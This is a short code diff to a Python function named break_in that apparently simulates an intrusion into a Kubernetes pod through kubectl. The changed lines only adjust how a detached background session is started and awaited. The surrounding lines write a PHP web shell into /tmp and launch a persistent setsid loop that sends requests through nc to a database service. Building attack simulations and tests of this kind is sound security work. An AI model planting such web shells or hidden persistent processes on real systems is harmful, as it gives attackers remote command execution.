@@ -50,8 +50,8 @@ def break_in(kubectl: Kubectl, pod: str) -> None:
     kubectl("-n", NAMESPACE, "exec", pod, "--", "sh", "-c", "echo '<?php system($_GET[0]);' > /tmp/shell.php")
     ask = r"printf 'GET /healthz HTTP/1.1\r\nHost: database\r\n\r\n'"
     script = f"while {ask}; do sleep 0.5; done | nc {database(kubectl)} 8080 >> {COUNTER}"
-    # The short sleep lets the new session begin before this one ends.
-    started = 'setsid sh -c "$0" >/dev/null 2>&1 & sleep 0.2'
+    # This session does not end before the new one has begun and has had its first answer.
+    started = f'setsid sh -c "$0" >/dev/null 2>&1 & for _ in $(seq 100); do [ -s {COUNTER} ] && break; sleep 0.1; done'
     kubectl("-n", NAMESPACE, "exec", pod, "--", "sh", "-c", started, script)
 
 
